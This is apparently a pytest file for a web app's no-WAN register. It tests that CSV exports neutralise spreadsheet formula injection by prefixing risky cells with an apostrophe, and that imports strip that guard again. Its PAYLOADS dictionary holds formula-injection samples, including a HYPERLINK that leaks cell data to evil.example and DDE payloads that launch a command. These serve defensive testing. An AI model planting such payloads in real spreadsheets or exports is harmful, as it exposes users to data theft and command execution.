"""The no-WAN register's CSV: a site or note an installer typed never becomes a live
formula in the spreadsheet that opens the export, and the import takes the guard off."""

from __future__ import annotations

import csv
import io

import pytest

from tests.conftest import login
from webapp.jobs.nowan import FORMULA_STARTS, spreadsheet_safe, spreadsheet_text
from webapp.web.context import station

PAYLOADS = {
    "=": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t": "\t=1+1",
    "\r": "\r=1+1",
}


@pytest.mark.parametrize("start", FORMULA_STARTS, ids=repr)
def test_each_formula_start_is_guarded_and_unguarded_again(start):
    text = PAYLOADS[start]
    assert text.startswith(start)
    assert spreadsheet_safe(text) == "'" + text
    assert spreadsheet_text(spreadsheet_safe(text)) == text


def test_plain_cells_are_left_alone():
    for text in ("14 Acacia Avenue", "no signal upstairs", "'quoted'", "", "1234567890", "a=b"):
        assert spreadsheet_safe(text) == text and spreadsheet_text(text) == text
    assert spreadsheet_safe(None) == ""


def _abort_no_wan(app, job_id: str, site: str, note: str) -> None:  # type: ignore[no-untyped-def]
    with app.app_context(), station().store.write() as db:
        db["jobs"].update(
            job_id,
            {
                "site": site,
                "status": "aborted",
                "abort_reason": "no-wan",
                "abort_note": note,
                "finished_at": "2026-11-20T10:00:00+00:00",
            },
        )


@pytest.mark.parametrize("start", FORMULA_STARTS, ids=repr)
def test_the_export_has_no_live_formula(app, client, demo_jobs, start):
    job = demo_jobs[0]
    payload = PAYLOADS[start]
    _abort_no_wan(app, job["id"], payload, payload)
    login(client, "supervisor")
    exported = client.get("/s/no-wan?format=csv").get_data(as_text=True)
    rows = list(csv.DictReader(io.StringIO(exported)))
    (row,) = [r for r in rows if r["mpxn"] == job["mpxn"]]
    for column in ("site", "note"):
        cell = row[column]
        assert cell == "'" + payload
        assert not cell.startswith(FORMULA_STARTS)


def test_the_guard_comes_off_on_import(app, client, demo_jobs):
    token = login(client, "supervisor")
    target = demo_jobs[1]
    text = f"mpxn,site,reported_at,note\n{target['mpxn']},'=1+1,2026-10-01,'@mast down\n"
    response = client.post(
        "/s/no-wan",
        data={"register": (io.BytesIO(text.encode()), "central.csv"), "csrf_token": token},
        content_type="multipart/form-data",
    )
    assert response.status_code == 302
    with app.app_context():
        entry = station().store.reader()["no_wan_register"].get(target["mpxn"])
    assert entry["site"] == "=1+1" and entry["note"] == "@mast down"
    exported = client.get("/s/no-wan?format=csv").get_data(as_text=True)
    assert f"{target['mpxn']},'=1+1,2026-10-01,'@mast down" in exported
